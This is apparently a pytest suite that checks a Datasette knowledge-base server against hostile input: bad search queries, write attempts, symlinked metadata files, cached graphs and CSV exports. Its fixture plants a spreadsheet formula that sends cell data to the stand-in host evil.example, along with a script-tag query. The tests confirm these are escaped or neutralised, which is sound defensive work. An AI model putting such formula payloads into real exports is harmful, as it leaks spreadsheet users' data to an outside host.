"""The served KB under hostile or heavy use: bad searches, writes, planted files, formula cells, repeated graphs."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import stat
import tempfile
from pathlib import Path

import pytest
import sqlite_utils
from datasette.app import Datasette

from kb.datasette import config, graph_svg
from kb.datasette.config import metadata
from tests.test_plugin import build_workbench_kb

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(scope="module")
def kb_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = build_workbench_kb(tmp_path_factory.mktemp("reliability"))
    db = sqlite_utils.Database(path)
    db.execute("update claims set text = ? where rowid = (select min(rowid) from claims)", [FORMULA])
    db.execute("update claims set text = ? where rowid = (select max(rowid) from claims)", ["-1 and\n@SUM(1)"])
    db.conn.commit()
    db.close()
    return path


@pytest.fixture
def server(kb_path: Path) -> Datasette:
    """A fresh server per test, so caches start empty."""
    return Datasette([], immutables=[str(kb_path)], metadata=metadata(kb_path.stem), settings={"sql_time_limit_ms": 3000})


def call(ds: Datasette, method: str, path: str, **kwargs):
    return asyncio.run(getattr(ds.client, method)(path, **kwargs))


@pytest.mark.parametrize("q", ['"', '""', '" "', '"""'])
def test_reliability_server_search_bad_query_is_400(server, q):
    response = call(server, "get", "/kb/-/search", params={"q": q})
    assert response.status_code == 400
    assert "search" in response.text.lower() and "fts5" not in response.text


def test_reliability_server_search_quotes_still_find(server):
    response = call(server, "get", "/kb/-/search", params={"q": '"amendment'})
    assert response.status_code == 200
    assert "Fourth" in response.text


def test_reliability_server_search_message_is_escaped(server):
    response = call(server, "get", "/kb/-/search", params={"q": "<script>x</script> " * 40})
    assert response.status_code == 400
    assert "<script>x" not in response.text


@pytest.mark.parametrize("q", ["a" * 60_000, "amendment " * 500, " ".join(f"w{n}" for n in range(13))])
def test_reliability_server_search_too_long_is_400(server, q):
    response = call(server, "get", "/kb/-/search", params={"q": q})
    assert response.status_code == 400
    assert "too long" in response.text or "too many" in response.text


@pytest.mark.parametrize("method", ["post", "put", "delete", "patch"])
@pytest.mark.parametrize("path", ["/kb/-/search?q=x", "/kb/-/graph?node=documents:hostile", "/kb/-/reader?document=hostile", "/kb/-/mentions?id=test-mention"])
def test_reliability_server_plugin_pages_refuse_writes(server, method, path):
    response = call(server, method, path)
    assert response.status_code == 405
    assert response.headers["allow"] == "GET, HEAD"


def test_reliability_server_plugin_pages_answer_head(server):
    assert call(server, "head", "/kb/-/search?q=amendment").status_code == 200


@pytest.mark.parametrize("path", [
    "/kb/-/insert", "/kb/documents/-/insert", "/kb/documents/-/upsert", "/kb/-/create",
    "/kb/documents/-/drop", "/kb/documents/hostile/-/update", "/kb/documents/hostile/-/delete", "/-/insert",
])
def test_reliability_server_write_endpoints_answer_4xx(server, path):
    response = call(server, "post", path, json={"row": {"id": "x"}})
    assert 400 <= response.status_code < 500


def test_reliability_server_metadata_in_private_dir_not_following_symlink(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    victim = tmp_path / "victim.txt"
    victim.write_text("keep", encoding="utf-8")
    (tmp_path / "kb-kb-metadata.json").symlink_to(victim)
    db = tmp_path / "kb.db"
    first, second = config.write_metadata(db), config.write_metadata(db)
    assert victim.read_text(encoding="utf-8") == "keep"
    assert first.parent != second.parent and first.parent.parent == tmp_path
    for path in (first, second):
        assert not path.is_symlink() and path.read_text(encoding="utf-8").startswith("{")
        assert stat.S_IMODE(os.stat(path.parent).st_mode) == 0o700
        assert stat.S_IMODE(os.stat(path).st_mode) & 0o077 == 0
    args = config.datasette_args(db)
    assert Path(args[args.index("--metadata") + 1]).parent.parent == tmp_path


@pytest.mark.parametrize("path", ["/kb/claims.csv?_size=max", "/kb/claims.csv?_stream=on", "/kb/claims.csv?_dl=1&_stream=on",
                                  "/kb.csv?sql=select+text+from+claims"])
def test_reliability_server_csv_formula_cells_neutralised(server, path):
    response = call(server, "get", path)
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
    assert "'" + FORMULA in cells and "'-1 and\n@SUM(1)" in cells
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)


def test_reliability_server_csv_neutralises_across_chunks():
    from kb.datasette.csv_guard import CsvGuard

    text = 'id,text\r\n1,"=a\r\nb"\r\n2,+x\r\n3,-4\r\n4,ok\r\n'
    for size in (1, 2, 3, 7):
        guard = CsvGuard()
        data = text.encode()
        out = b"".join(guard.feed(data[i:i + size]) for i in range(0, len(data), size)) + guard.close()
        assert list(csv.reader(io.StringIO(out.decode()))) == [["id", "text"], ["1", "'=a\r\nb"], ["2", "'+x"], ["3", "-4"], ["4", "ok"]]


@pytest.fixture()
def layout_calls(monkeypatch) -> list[str]:
    """The centres of the graph layouts computed, in order."""
    calls: list[str] = []
    real = graph_svg.layout

    def counting(graph, center):
        calls.append(center)
        return real(graph, center)

    monkeypatch.setattr(graph_svg, "layout", counting)
    return calls


def test_reliability_server_graph_repeat_served_from_cache(server, layout_calls):
    calls = layout_calls
    first = call(server, "get", "/kb/-/graph?node=documents:hostile&depth=2")
    second = call(server, "get", "/kb/-/graph?node=documents:hostile&depth=2")
    assert first.status_code == second.status_code == 200 and first.text == second.text
    assert len(calls) == 1
    call(server, "get", "/kb/-/graph?node=documents:hostile")  # another depth: drawn anew
    assert len(calls) == 2


def test_reliability_server_graph_concurrent_requests_draw_once(server, layout_calls):
    calls = layout_calls

    async def many():
        await server.invoke_startup()
        return await asyncio.gather(*(server.client.get("/kb/-/graph?node=documents:hostile") for _ in range(20)))

    responses = asyncio.run(many())
    assert {r.status_code for r in responses} == {200}
    assert len(calls) == 1


def test_reliability_server_graph_cache_is_bounded():
    from kb.datasette.graph_cache import LRU

    cache: LRU[int, int] = LRU(3)
    for n in range(10):
        cache.put(n, n)
    assert len(cache) == 3 and cache.get(9) == 9 and cache.get(0) is None


def test_reliability_server_plugin_registers_whole_whatever_is_imported_first():
    # regression: importing kb.datasette before Datasette had loaded its plugins registered the plugin
    # half-defined (its import of Datasette's exception handler loaded the entry points mid-import), with no routes
    import subprocess
    import sys

    probe = ("import kb.datasette.config; from datasette.app import Datasette; import datasette.plugins as p; "
             "print(sorted(i.plugin_name for i in p.pm.hook.register_routes.get_hookimpls()))")
    result = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, check=True)
    assert result.stdout.strip() == "['kb']"
